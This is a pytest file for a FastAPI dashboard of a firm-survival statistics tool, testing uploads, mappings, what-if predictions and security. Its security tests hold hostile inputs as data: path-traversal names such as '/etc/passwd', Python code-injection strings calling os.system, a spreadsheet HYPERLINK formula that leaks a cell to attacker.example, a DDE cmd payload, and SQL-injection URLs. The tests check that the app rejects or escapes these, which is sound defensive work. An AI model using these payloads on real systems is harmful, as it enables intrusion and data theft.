"""The web dashboard through FastAPI's TestClient: API, pages, what-if numbers, and security.

One app serves the module, with studies in a worker process as in production (CPython 3.11's
``ast.parse`` is not thread-safe, and the formula parser uses it); its built-in study runs in
the background while the fast tests go on, and the tests that read results wait for it.
"""

from __future__ import annotations

import io
import json
import re
import time
import zipfile
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import numpy as np
import pandas as pd
import pytest

pytest.importorskip("fastapi", reason="the web extra (fastapi) is not installed")
try:  # Starlette's TestClient runs on httpx2 (or, deprecated, httpx)
    import httpx2  # noqa: F401
except ImportError:
    pytest.importorskip("httpx", reason="httpx2 (for FastAPI's TestClient) is not installed")

from fastapi.testclient import TestClient  # noqa: E402

from smesurvival.data.synthetic import simulate_cohort  # noqa: E402
from smesurvival.web import create_app  # noqa: E402
from smesurvival.web.security import csv_cell, display_name  # noqa: E402
from smesurvival.web.sniff import sniff  # noqa: E402
from smesurvival.web.studyform import StudyOptions, build_spec  # noqa: E402

HEADERS = ("content-security-policy", "x-content-type-options", "x-frame-options", "referrer-policy")


def wait_for(client: TestClient, ws: str, run: str, timeout: float = 600.0) -> dict[str, Any]:
    t0 = time.monotonic()
    while time.monotonic() - t0 < timeout:
        s = client.get(f"/api/workspaces/{ws}/runs/{run}").json()
        if s["status"] in ("done", "failed"):
            return s
        time.sleep(0.3)
    raise AssertionError(f"run {run} did not finish in {timeout} s")


def csv_bytes(frame: pd.DataFrame) -> bytes:
    return frame.to_csv(index=False).encode("utf-8")


def upload(client: TestClient, ws: str, name: str, data: bytes) -> Any:
    return client.post(f"/api/workspaces/{ws}/datasets",
                       files={"file": (name, data, "application/octet-stream")})


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Any:
    data_dir = tmp_path_factory.mktemp("web-data")
    app = create_app(data_dir, executor="process", demo_bootstrap=0)
    with TestClient(app) as c:
        c.data_dir = data_dir  # type: ignore[attr-defined]
        yield c


@pytest.fixture(scope="module")
def demo(client: TestClient) -> tuple[str, str]:
    """The built-in study, finished: (workspace, run)."""
    d = client.get("/api/demo").json()
    s = wait_for(client, d["workspace"], d["run"]["id"])
    assert s["status"] == "done", s
    return d["workspace"], d["run"]["id"]


@pytest.fixture
def ws(client: TestClient) -> str:
    r = client.post("/api/workspaces")
    assert r.status_code == 201
    return str(r.json()["id"])


@pytest.fixture(scope="module")
def firms() -> pd.DataFrame:
    return simulate_cohort(300, 6).frame


# ---- without a finished study (the built-in one computes meanwhile) ----------------------
def test_security_headers_everywhere(client: TestClient, ws: str) -> None:
    for url in ("/", f"/w/{ws}", "/api/health", "/static/app.js", "/static/app.css",
                "/assets/tables.css", "/no/such/page", "/api/no/such", f"/w/{'0' * 32}"):
        r = client.get(url)
        for h in HEADERS:
            assert h in r.headers, (url, h)
        assert r.headers["x-content-type-options"] == "nosniff"
        assert r.headers["x-frame-options"] == "DENY"
        csp = r.headers["content-security-policy"]
        assert "script-src 'self'" in csp and "unsafe-inline" not in csp and "unsafe-eval" not in csp
        assert "frame-ancestors 'none'" in csp
    assert client.get("/no/such/page").status_code == 404


def _assert_no_inline_code(html: str) -> None:
    for tag in re.findall(r"<script\b[^>]*>", html):
        assert "src=" in tag, tag
    assert all(not body.strip() for body in re.findall(r"<script\b[^>]*>(.*?)</script>", html, re.S))
    assert not re.search(r"\son[a-z]+\s*=", html), "inline event handler"
    assert not re.search(r"\sstyle\s*=", html), "inline style attribute"
    assert "javascript:" not in html
    assert "http://" not in html.replace('xmlns="http://www.w3.org/2000/svg"', "")
    assert "https://" not in html  # nothing from a CDN: the site works offline


def test_openapi_schema_lists_the_api(client: TestClient) -> None:
    schema = client.get("/api/openapi.json").json()
    paths = set(schema["paths"])
    for p in ("/api/workspaces", "/api/workspaces/{ws}/datasets", "/api/workspaces/{ws}/runs",
              "/api/workspaces/{ws}/datasets/{ds}/mapping", "/api/workspaces/{ws}/runs/{run}",
              "/api/workspaces/{ws}/runs/{run}/whatif", "/api/workspaces/{ws}/runs/{run}/bundle.zip",
              "/api/study/options"):
        assert p in paths, p
    assert not any(not p.startswith("/api/") for p in paths)  # pages stay out of the schema
    assert client.get("/docs").status_code == 404  # no UI that would load scripts from a CDN


def test_upload_shows_validation_with_offending_rows(client: TestClient, ws: str,
                                                     firms: pd.DataFrame) -> None:
    bad = firms.copy()
    bad.loc[4, "export_sales"] = bad.loc[4, "sales"] * 2  # file line 6
    bad.loc[9, "founding_year"] = 2010  # file line 11: founded after the survey
    r = upload(client, ws, "bad.csv", csv_bytes(bad))
    assert r.status_code == 201
    j = r.json()
    assert j["ready"] is False and j["validation"]["n_errors"] == 2
    lines = {row["line"] for row in j["validation"]["offending"]["rows"]}
    assert lines == {6, 11}
    page = client.get(f"/w/{ws}/d/{j['dataset']['id']}").text
    assert "export_sales must not exceed sales" in page and 'id="offending-rows"' in page
    assert "founding_year must not be after survey_year" in page
    assert "<td>6</td>" in page and "<td>11</td>" in page


def test_mapping_suggested_then_fixed(client: TestClient, ws: str, firms: pd.DataFrame) -> None:
    renamed = firms.rename(columns={"employees": "staff_total", "sales": "Turnover"})
    j = upload(client, ws, "renamed.csv", csv_bytes(renamed)).json()
    assert j["suggested"] is True
    assert j["mapping"]["sales"] == "Turnover"  # a known alias, any case
    assert j["mapping"]["employees"] is None and j["ready"] is False
    assert any(i["column"] == "employees" for i in j["validation"]["issues"])
    ds = j["dataset"]["id"]
    mapping = {**j["mapping"], "employees": "staff_total"}
    r = client.put(f"/api/workspaces/{ws}/datasets/{ds}/mapping", json={"mapping": mapping})
    assert r.status_code == 200 and r.json()["ready"] is True
    got = client.get(f"/api/workspaces/{ws}/datasets/{ds}").json()
    assert got["suggested"] is False and got["mapping"]["employees"] == "staff_total"
    # the form route saves the same way
    form = {f"role.{k}": v for k, v in mapping.items() if v}
    client.put(f"/api/workspaces/{ws}/datasets/{ds}/mapping", json={"mapping": {}})
    r = client.post(f"/w/{ws}/d/{ds}/mapping", data=form, follow_redirects=False)
    assert r.status_code == 303
    saved = client.get(f"/api/workspaces/{ws}/datasets/{ds}").json()
    assert saved["ready"] is True and saved["mapping"]["innovation_items"] == mapping["innovation_items"]
    for bad in ({"employees": "no_such_column"}, {"no_such_role": "firm_id"},
                {"employees": "sales", "sales": "Turnover", "export_sales": "Turnover"}):
        r = client.put(f"/api/workspaces/{ws}/datasets/{ds}/mapping", json={"mapping": {**mapping, **bad}})
        assert r.status_code == 400, bad


def test_every_format_is_read_whatever_its_name(client: TestClient, ws: str, tmp_path: Path,
                                                firms: pd.DataFrame) -> None:
    small = firms.head(60).drop(columns=["exit_year", "exit_month", "exit_type"])
    files: dict[str, bytes] = {}
    small.to_parquet(tmp_path / "a.parquet", index=False)
    files["parquet"] = (tmp_path / "a.parquet").read_bytes()
    small.to_excel(tmp_path / "a.xlsx", index=False)
    files["xlsx"] = (tmp_path / "a.xlsx").read_bytes()
    small.to_stata(tmp_path / "a.dta", write_index=False)
    files["dta"] = (tmp_path / "a.dta").read_bytes()
    import pyreadstat

    pyreadstat.write_sav(small, str(tmp_path / "a.sav"))
    files["sav"] = (tmp_path / "a.sav").read_bytes()
    for fmt, data in files.items():
        r = upload(client, ws, "renamed.csv", data)  # the name lies; the content decides
        assert r.status_code == 201, (fmt, r.text)
        assert r.json()["dataset"]["format"] == fmt
        assert r.json()["dataset"]["n_rows"] == 60
    r = upload(client, ws, "data.xlsx", csv_bytes(small))  # CSV named .xlsx is read as CSV
    assert r.status_code == 201 and r.json()["dataset"]["format"] == "csv"
    mixed = small.astype({"employees": object})
    mixed.loc[3, "employees"] = "about 40"  # text among numbers in an Excel column
    mixed.to_excel(tmp_path / "m.xlsx", index=False)
    r = upload(client, ws, "m.xlsx", (tmp_path / "m.xlsx").read_bytes())
    assert r.status_code == 201
    issue = next(i for i in r.json()["validation"]["issues"] if i["column"] == "employees")
    assert issue["rule"] == "employees must be a number" and issue["rows"] == [5]


def test_oversized_upload_is_refused(tmp_path: Path, firms: pd.DataFrame) -> None:
    app = create_app(tmp_path, executor="thread", demo=False, max_upload_mb=0.01)  # 10 KiB
    big = csv_bytes(firms)
    assert len(big) > 20_000
    with TestClient(app) as c:
        ws = c.post("/api/workspaces").json()["id"]
        r = upload(c, ws, "big.csv", big)
        assert r.status_code == 413 and "limit" in r.json()["error"]["message"]
        assert "x-frame-options" in r.headers
        r = c.post(f"/w/{ws}/upload", files={"file": ("big.csv", big, "text/csv")})
        assert r.status_code == 413 and "<html" in r.text and "Traceback" not in r.text

        def chunks() -> Any:  # no Content-Length: counted while streaming
            boundary = b"XyZ"
            yield b"--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"b.csv\"\r\n\r\n"
            for i in range(0, len(big), 4096):
                yield big[i:i + 4096]
            yield b"\r\n--" + boundary + b"--\r\n"

        r = c.post(f"/api/workspaces/{ws}/datasets", content=chunks(),
                   headers={"content-type": "multipart/form-data; boundary=XyZ"})
        assert r.status_code == 413
        assert c.get(f"/api/workspaces/{ws}").json()["datasets"] == []
        assert upload(c, ws, "small.csv", csv_bytes(firms.head(20))).status_code == 201


def test_renamed_binary_gives_the_validation_page(client: TestClient, ws: str) -> None:
    png = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8
    r = upload(client, ws, "firms.csv", png)
    assert r.status_code == 400 and "PNG image" in r.json()["error"]["message"]
    r = client.post(f"/w/{ws}/upload", files={"file": ("firms.csv", png, "text/csv")})
    assert r.status_code == 400 and "could not be read" in r.text and "PNG image" in r.text
    for data in (bytes(np.random.default_rng(1).integers(0, 256, 5000, dtype=np.uint8)),
                 b"PK\x03\x04 not really a zip", b"", b"a,b\n1,2\n3,4,5,6,7\n", b"a,b,a\n1,2,3\n",
                 b"firm_id,employees\n"):
        r = upload(client, ws, "x.xlsx", data)
        assert r.status_code == 400, data[:20]
        assert "Traceback" not in r.text
    assert client.get(f"/api/workspaces/{ws}").json()["datasets"] == []


def test_path_traversal_file_names_never_become_paths(client: TestClient, ws: str,
                                                      firms: pd.DataFrame) -> None:
    data_dir: Path = client.data_dir  # type: ignore[attr-defined]
    before = {p.name for p in data_dir.parent.iterdir()}
    names = {}
    for evil in ("../../../../tmp/evil.csv", "..\\..\\windows\\evil2.csv", "/etc/passwd",
                 "a/../../b.csv\x00.png", "....//....//c.csv"):
        r = upload(client, ws, evil, csv_bytes(firms.head(30)))
        assert r.status_code == 201, evil
        names[evil] = r.json()["dataset"]["name"]
    assert names["../../../../tmp/evil.csv"] == "evil.csv"
    assert names["..\\..\\windows\\evil2.csv"] == "evil2.csv"
    assert names["/etc/passwd"] == "passwd"
    assert all("/" not in n and "\\" not in n and "\x00" not in n for n in names.values())
    assert {p.name for p in data_dir.parent.iterdir()} == before
    assert not Path("/tmp/evil.csv").exists()
    assert display_name("../../x.csv") == "x.csv" and display_name("..") == "upload"


def test_formula_with_python_code_is_refused(client: TestClient, ws: str, firms: pd.DataFrame,
                                             tmp_path: Path) -> None:
    ds = upload(client, ws, "f.csv", csv_bytes(firms)).json()["dataset"]["id"]
    marker = tmp_path / "pwned"
    attacks = [
        {"controls": [f"__import__('os').system('touch {marker}')"]},
        {"controls": ["log_firm_age + I(__import__('os').getcwd())"]},
        {"hypotheses": ["H1); import os; os.system('id')"]},
        {"family": "logit; import os"},
        {"window_years": "__import__('os')"},
        {"bootstrap": 7},
    ]
    for options in attacks:
        r = client.post(f"/api/workspaces/{ws}/runs", json={"dataset_id": ds, "options": options})
        assert r.status_code in (400, 422), options
        assert "error" in r.json()
    r = client.post(f"/api/workspaces/{ws}/runs", json={
        "dataset_id": ds, "options": {}, "formula": "survived ~ __import__('os')"})
    assert r.status_code == 422  # no field takes a formula at all
    r = client.post(f"/w/{ws}/d/{ds}/runs", data={"controls": f"exec('open(\"{marker}\",\"w\")')"})
    assert r.status_code == 400 and "not one of the allowed controls" in r.text
    assert not marker.exists()
    assert client.get(f"/api/workspaces/{ws}").json()["runs"] == []


def test_csv_exports_escape_spreadsheet_formulas(client: TestClient, ws: str,
                                                 firms: pd.DataFrame) -> None:
    evil = firms.head(30).copy()
    evil["region"] = evil["region"].astype(object)
    evil.loc[2, "region"] = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
    evil.loc[3, "region"] = "@SUM(1+1)"
    evil.loc[4, "region"] = "+cmd|' /C calc'!A0"
    evil.loc[2, "export_sales"] = evil.loc[2, "sales"] * 3  # an error row: listed as offending
    ds = upload(client, ws, "evil.csv", csv_bytes(evil)).json()["dataset"]["id"]
    for url in (f"/api/workspaces/{ws}/datasets/{ds}/offending.csv",
                f"/api/workspaces/{ws}/datasets/{ds}/data.csv"):
        r = client.get(url)
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
        cells = [c for row in pd.read_csv(io.StringIO(r.text), dtype=str).itertuples(index=False)
                 for c in row if isinstance(c, str)]
        assert "'=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")" in cells
        assert not any(c.startswith(("=", "+", "@")) for c in cells)
    data = pd.read_csv(io.StringIO(client.get(f"/api/workspaces/{ws}/datasets/{ds}/data.csv").text), dtype=str)
    assert data.loc[3, "region"] == "'@SUM(1+1)" and data.loc[4, "region"].startswith("'+cmd")
    page = client.get(f"/w/{ws}/d/{ds}").text  # shown escaped, never as markup
    assert "=HYPERLINK(&#34;http://attacker.example" in page or "=HYPERLINK(&quot;" in page
    assert csv_cell("-0.25") == "-0.25" and csv_cell(-3.5) == -3.5 and csv_cell("-1+1") == "'-1+1"
    assert csv_cell("\t=1") == "'\t=1" and csv_cell("plain") == "plain"


def test_errors_never_show_a_traceback(client: TestClient, ws: str, monkeypatch: pytest.MonkeyPatch) -> None:
    svc = client.app.state.service  # type: ignore[attr-defined]

    def boom(*_a: Any, **_k: Any) -> None:
        raise RuntimeError("secret internal detail /etc/shadow")

    monkeypatch.setattr(svc, "workspace", boom)
    for url in (f"/w/{ws}", f"/api/workspaces/{ws}"):
        r = client.get(url)
        assert r.status_code == 500
        assert "Traceback" not in r.text and "secret internal detail" not in r.text
        assert "reference" in r.text and "x-frame-options" in r.headers
    r = client.post(f"/api/workspaces/{ws}/runs", content=b"{not json", headers={"content-type": "application/json"})
    assert r.status_code == 422 and "Traceback" not in r.text


def test_study_options_are_whitelisted() -> None:
    d = StudyOptions.default()
    assert d.hypotheses == ("H1", "H2a", "H2b", "H3a", "H3b", "H4", "H5") and d.bootstrap == 1000
    o = StudyOptions.parse({"hypotheses": ["H1", "H4"], "controls": ["log_employees"],
                            "window_years": 3, "family": "probit", "robustness": False,
                            "bootstrap": 0})
    raw, spec = build_spec(o, {"firm_id": "id"})
    assert [h.id for h in spec.hypotheses] == ["H1", "H4"] and spec.controls == ("log_employees",)
    assert spec.window_years == 3 and spec.family == "probit" and spec.robustness_models == ()
    assert raw["columns"] == {"firm_id": "id"} and spec.effects is not None and spec.effects.bootstrap == 0
    from smesurvival.errors import UsageError

    for bad in ({"x": 1}, {"controls": ["C(firm_id)"]}, {"window_years": 0}, {"window_years": True},
                {"window_years": 2.5}, {"family": "firth"}, {"robustness": "yes"}, {"missing": "drop"}):
        with pytest.raises(UsageError):
            StudyOptions.parse(bad)


def test_sniffing(tmp_path: Path) -> None:
    cases = {b"firm_id,year\n1,2003\n": ".csv", "id;ré\n1;2\n".encode("cp1252"): ".csv",
             b"PAR1....": ".parquet", b"$FL2@(#) SPSS": ".sav", b"<stata_dta><header>": ".dta",
             bytes([114, 2, 1, 0]) + b"\x00" * 60: ".dta"}
    for data, ext in cases.items():
        p = tmp_path / "f"
        p.write_bytes(data)
        assert sniff(p) == ext, data[:10]
    from smesurvival.errors import DataReadError

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("word/document.xml", "<x/>")
        zf.writestr("[Content_Types].xml", "<x/>")
    (tmp_path / "d").write_bytes(buf.getvalue())
    with pytest.raises(DataReadError, match="Word document"):
        sniff(tmp_path / "d")
    (tmp_path / "e").write_bytes(b"MZ\x90\x00" + b"\x00" * 100)
    with pytest.raises(DataReadError, match="executable"):
        sniff(tmp_path / "e")


def test_restart_keeps_workspaces_data_mappings_and_results(tmp_path: Path, firms: pd.DataFrame) -> None:
    with TestClient(create_app(tmp_path, executor="thread", demo=False)) as c:
        ws = c.post("/api/workspaces").json()["id"]
        j = upload(c, ws, "firms.csv", csv_bytes(firms.rename(columns={"employees": "staff"}))).json()
        ds = j["dataset"]["id"]
        c.put(f"/api/workspaces/{ws}/datasets/{ds}/mapping", json={"mapping": {**j["mapping"], "employees": "staff"}})
        import subprocess
        import sys

        probe = ("import sys; from smesurvival.web.store import Store; from smesurvival.errors "
                 "import UsageError\ntry:\n    Store(__import__('pathlib').Path(sys.argv[1]))\n"
                 "except UsageError as e:\n    print(e); sys.exit(2)")
        out = subprocess.run([sys.executable, "-c", probe, str(tmp_path)], capture_output=True,
                             text=True, timeout=120)
        assert out.returncode == 2 and "another 'smesurvival serve'" in out.stdout  # one server per folder
        store = c.app.state.service.store  # type: ignore[attr-defined]
        run = store.add_run(ws, ds, {"bootstrap": 0}, {"study": {}})  # a finished run, stored
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as zf:
            zf.writestr("report.html", "<p>kept</p>")
        store.save_results(run, '{"kept": true}', {"verdicts": []}, None, buf.getvalue())
    with TestClient(create_app(tmp_path, executor="thread", demo=False)) as c:
        got = c.get(f"/api/workspaces/{ws}/datasets/{ds}").json()
        assert got["mapping"]["employees"] == "staff" and got["ready"] is True
        assert got["dataset"]["n_rows"] == 300 and got["dataset"]["name"] == "firms.csv"
        assert c.get(f"/api/workspaces/{ws}/runs/{run}").json()["status"] == "done"
        assert c.get(f"/api/workspaces/{ws}/runs/{run}/results.json").json() == {"kept": True}
        assert c.get(f"/api/workspaces/{ws}/runs/{run}/report.html").text == "<p>kept</p>"


# ---- with the built-in study finished ---------------------------------------------------------
def test_one_workspace_cannot_reach_another(client: TestClient, firms: pd.DataFrame,
                                            demo: tuple[str, str]) -> None:
    a = client.post("/api/workspaces").json()["id"]
    b = client.post("/api/workspaces").json()["id"]
    ds_b = upload(client, b, "b.csv", csv_bytes(firms.head(40))).json()["dataset"]["id"]
    dws, run = demo
    assert client.get(f"/api/workspaces/{b}/datasets/{ds_b}").status_code == 200
    for url in (f"/api/workspaces/{a}/datasets/{ds_b}", f"/w/{a}/d/{ds_b}",
                f"/api/workspaces/{a}/datasets/{ds_b}/data.csv",
                f"/api/workspaces/{a}/runs/{run}", f"/api/workspaces/{a}/runs/{run}/bundle.zip",
                f"/api/workspaces/{a}/runs/{run}/whatif", f"/w/{a}/r/{run}",
                f"/api/workspaces/{'f' * 32}", f"/api/workspaces/{'f' * 32}/datasets/{ds_b}",
                f"/api/workspaces/{b[:-1]}", f"/api/workspaces/{b}x",
                "/api/workspaces/..%2F..%2Fetc", f"/api/workspaces/{b}/datasets/'%20OR%201=1--"):
        r = client.get(url)
        assert r.status_code == 404, url
        assert ds_b not in r.text and "firm_id" not in r.text
    r = client.put(f"/api/workspaces/{a}/datasets/{ds_b}/mapping", json={"mapping": {}})
    assert r.status_code == 404
    r = client.post(f"/api/workspaces/{a}/runs", json={"dataset_id": ds_b})
    assert r.status_code == 404
    assert len(a) == 32 and int(a, 16) >= 0  # 128-bit random ids
    # the built-in study's workspace is public but read-only
    assert upload(client, dws, "x.csv", csv_bytes(firms.head(20))).status_code == 403


def test_pages_have_no_inline_code(client: TestClient, ws: str, demo: tuple[str, str],
                                   firms: pd.DataFrame) -> None:
    dws, run = demo
    ds = upload(client, ws, "firms.csv", csv_bytes(firms)).json()["dataset"]["id"]
    for url in ("/", f"/w/{ws}", f"/w/{ws}/d/{ds}", f"/w/{dws}/r/{run}", f"/w/{dws}/r/{run}/whatif"):
        r = client.get(url)
        assert r.status_code == 200, url
        _assert_no_inline_code(r.text)


def test_home_shows_the_builtin_study_labelled_synthetic(client: TestClient, demo: tuple[str, str]) -> None:
    html = client.get("/").text
    assert "SYNTHETIC DATA" in html
    assert 'id="verdict-table"' in html and "H3a" in html
    assert "/whatif" in html and "bundle.zip" in html


def test_finished_run_results_and_bundle(client: TestClient, demo: tuple[str, str]) -> None:
    ws, run = demo
    s = client.get(f"/api/workspaces/{ws}/runs/{run}").json()
    assert s["status"] == "done" and s["progress"] == 1.0
    assert s["summary"]["synthetic"] is True and "SYNTHETIC" in s["summary"]["data_label"]
    assert [v["hypothesis"] for v in s["summary"]["verdicts"]] == ["H1", "H2a", "H2b", "H3a", "H3b", "H4", "H5"]
    results = client.get(f"/api/workspaces/{ws}/runs/{run}/results.json").json()
    assert results["synthetic"] is True and results["verdicts"]
    r = client.get(f"/api/workspaces/{ws}/runs/{run}/bundle.zip")
    assert r.status_code == 200 and "attachment" in r.headers["content-disposition"]
    zf = zipfile.ZipFile(io.BytesIO(r.content))
    names = set(zf.namelist())
    for n in ("report.html", "report.md", "results.json", "spec.json", "README.txt",
              "tables.tex", "tables.docx", "tables/verdicts.csv", "tables/regression.csv",
              "figures/interaction.png", "figures/interaction.svg"):
        assert n in names, n
    assert json.loads(zf.read("results.json"))["verdicts"] == results["verdicts"]
    assert "SYNTHETIC" in zf.read("README.txt").decode()
    assert json.loads(zf.read("spec.json"))["study"]["name"] == "lee2012"
    doc = ElementTree.fromstring(zipfile.ZipFile(io.BytesIO(zf.read("tables.docx"))).read("word/document.xml"))
    w = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
    assert len(list(doc.iter(f"{w}tbl"))) >= 5  # real Word tables
    assert "H3a" in {t.text for t in doc.iter(f"{w}t")}
    assert r"\toprule" in zf.read("tables.tex").decode()
    verdicts = pd.read_csv(io.BytesIO(zf.read("tables/verdicts.csv")), dtype=str)
    assert list(verdicts.iloc[:, 0][:7]) == ["H1", "H2a", "H2b", "H3a", "H3b", "H4", "H5"]
    # report.html: self-contained, no script, its own CSP
    r = client.get(f"/api/workspaces/{ws}/runs/{run}/report.html")
    assert r.status_code == 200 and "<script" not in r.text
    assert r.headers["content-security-policy"].startswith("default-src 'none'; style-src")
    r = client.get(f"/api/workspaces/{ws}/runs/{run}/figures/interaction.png")
    assert r.status_code == 200 and r.content.startswith(b"\x89PNG")
    for bad in ("..%2Freport.html", "..%2F..%2Fresults.json", "x.png", "interaction.PNG.exe"):
        assert client.get(f"/api/workspaces/{ws}/runs/{run}/figures/{bad}").status_code == 404
    r = client.get(f"/api/workspaces/{ws}/runs/{run}/tables/verdicts.csv")
    assert r.status_code == 200 and "H3a" in r.text
    page = client.get(f"/w/{ws}/r/{run}").text
    assert 'id="verdict-table"' in page and 'id="download-bundle"' in page and "SYNTHETIC DATA" in page


def test_run_with_a_user_error_shows_the_message(client: TestClient, ws: str,
                                                firms: pd.DataFrame) -> None:
    everyone_survived = firms.assign(exit_year=None, exit_month=None, exit_type=None)
    ds = upload(client, ws, "survivors.csv", csv_bytes(everyone_survived)).json()["dataset"]["id"]
    r = client.post(f"/api/workspaces/{ws}/runs", json={"dataset_id": ds, "options": {"bootstrap": 0, "robustness": False}})
    assert r.status_code == 202
    s = wait_for(client, ws, r.json()["id"])
    assert s["status"] == "failed" and s["error"]["kind"] == "user"
    assert "no firm exited" in s["error"]["message"]
    page = client.get(f"/w/{ws}/r/{r.json()['id']}").text
    assert "could not be run" in page and "no firm exited" in page and "Traceback" not in page


def test_whatif_equals_the_library_predictions(client: TestClient, demo: tuple[str, str]) -> None:
    from smesurvival.inference.effects import predictions
    from smesurvival.models.result import FitResult
    from smesurvival.web.whatif import WhatIf

    ws, run = demo
    stored = client.app.state.service.store.result(ws, run, "whatif_json")  # type: ignore[attr-defined]
    model = WhatIf(stored)
    assert model.main_enc.ok and model.cox_enc is not None and model.cox_enc.ok
    prof = {"industry": "electronics", "firm_age": 8, "employees": 45, "export_ratio": 0.4,
            "rd_intensity": 0.2, "innovativeness": 0.5, "rd_alliance": 1}
    got = model.predict(prof)
    cen = stored["centering"]
    row = pd.DataFrame([{"industry": "electronics", "log_firm_age": np.log1p(8.0),
                         "log_employees": np.log(45.0), "export_ratio": 0.4 - cen["export_ratio"],
                         "rd_intensity": 0.2 - cen["rd_intensity"],
                         "innovativeness": 0.5 - cen["innovativeness"],
                         "rd_alliance": 1.0 - cen["rd_alliance"]}])
    main = FitResult.from_dict(stored["main"])
    ref = predictions(main, newdata=row, type="response").frame.iloc[0]
    for k in ("estimate", "conf_low", "conf_high"):
        assert got["survival"][k] == pytest.approx(float(ref[k]), rel=1e-10, abs=1e-12)
    cox = FitResult.from_dict(stored["cox"])
    for t in (1.0, 2.5, 5.0):
        refc = predictions(cox, newdata=row, type="survival", horizon=t).frame.iloc[0]
        i = int(np.argmin(np.abs(np.asarray(got["cox"]["time"]) - t)))
        assert got["cox"]["time"][i] == pytest.approx(t)
        for k in ("estimate", "conf_low", "conf_high"):
            assert got["cox"][k][i] == pytest.approx(float(refc[k]), rel=1e-9, abs=1e-12)
    # the export-ratio curve and the alliance contrast are the same model at other values
    assert got["alliance"]["with"]["estimate"] == pytest.approx(got["survival"]["estimate"])
    grid = np.asarray(got["export_curve"]["export_ratio"])
    assert grid[0] == 0.0 and np.all(np.diff(got["export_curve"]["conf_high"]) != 0)
    # the formulaic fallback gives the same numbers
    slow = WhatIf(stored)
    slow.main_enc.ok = False
    assert slow.predict(prof)["survival"]["estimate"] == pytest.approx(got["survival"]["estimate"], rel=1e-12)


def test_whatif_api_and_page(client: TestClient, demo: tuple[str, str]) -> None:
    ws, run = demo
    url = f"/api/workspaces/{ws}/runs/{run}/whatif"
    schema = client.get(url).json()
    names = [i["name"] for i in schema["inputs"]]
    assert names == ["firm_age", "employees", "industry", "export_ratio", "rd_intensity",
                     "innovativeness", "rd_alliance"]
    assert schema["synthetic"] is True and "associations" in schema["caveat"]
    lo = client.post(url, json={"profile": {"export_ratio": 0.0}}).json()
    hi = client.post(url, json={"profile": {"export_ratio": 0.6}}).json()
    assert hi["survival"]["estimate"] > lo["survival"]["estimate"]  # H1 holds in the cohort
    a = lo["survival"]
    assert 0 < a["conf_low"] < a["estimate"] < a["conf_high"] < 1
    assert lo["cox"]["estimate"][0] == 1.0 and np.all(np.diff(lo["cox"]["estimate"]) <= 0)
    for bad in ({"export_ratio": 1.7}, {"export_ratio": "__import__('os')"}, {"rd_alliance": 0.5},
                {"industry": "casino"}, {"turnover": 3}, {"employees": float("nan")}):
        r = client.post(url, content=json.dumps({"profile": bad}).replace("NaN", '"nan"'),
                        headers={"content-type": "application/json"})
        assert r.status_code in (400, 422), bad
    page = client.get(f"/w/{ws}/r/{run}/whatif?export_ratio=0.6&industry=food").text
    assert f"{100 * client.post(url, json={'profile': {'export_ratio': 0.6, 'industry': 'food'}}).json()['survival']['estimate']:.1f}%" in page
    assert "associations" in page and "SYNTHETIC DATA" in page
    assert client.get(f"/w/{ws}/r/{run}/whatif?export_ratio=9").status_code == 400


def test_whatif_answers_while_a_study_runs(client: TestClient, ws: str, demo: tuple[str, str]) -> None:
    dws, run = demo
    ds = client.post(f"/api/workspaces/{ws}/datasets/builtin", json={"n": 1612, "seed": 2012}).json()
    assert ds["dataset"]["synthetic"] is True and ds["ready"] is True
    r = client.post(f"/api/workspaces/{ws}/runs", json={"dataset_id": ds["dataset"]["id"],
                                                        "options": {"bootstrap": 0, "robustness": False}})
    job = r.json()["id"]
    url = f"/api/workspaces/{dws}/runs/{run}/whatif"
    worst, answered = 0.0, 0
    while client.get(f"/api/workspaces/{ws}/runs/{job}").json()["status"] in ("queued", "running"):
        t0 = time.perf_counter()
        assert client.post(url, json={"profile": {"export_ratio": 0.3}}).status_code == 200
        worst = max(worst, time.perf_counter() - t0)
        answered += 1
        if answered >= 40:
            break
    assert answered >= 5 and worst < 2.0, (answered, worst)
    s = wait_for(client, ws, job)
    assert s["status"] == "done" and s["summary"]["synthetic"] is True  # the built-in cohort keeps its label


def test_serve_command_is_light_and_refuses_a_busy_port(tmp_path: Path) -> None:
    import socket
    import subprocess
    import sys

    from smesurvival.errors import UsageError
    from smesurvival.web.cli import serve

    probe = "import sys, smesurvival.web.cli; print('fastapi' in sys.modules, 'uvicorn' in sys.modules)"
    out = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, timeout=120)
    assert out.stdout.split() == ["False", "False"]  # the CLI imports the web stack only to serve
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        s.listen()
        with pytest.raises(UsageError, match="cannot listen"):
            serve("127.0.0.1", s.getsockname()[1], tmp_path / "d")
    with pytest.raises(UsageError, match="port"):
        serve("127.0.0.1", 70000, tmp_path / "d")
    assert not (tmp_path / "d").exists()
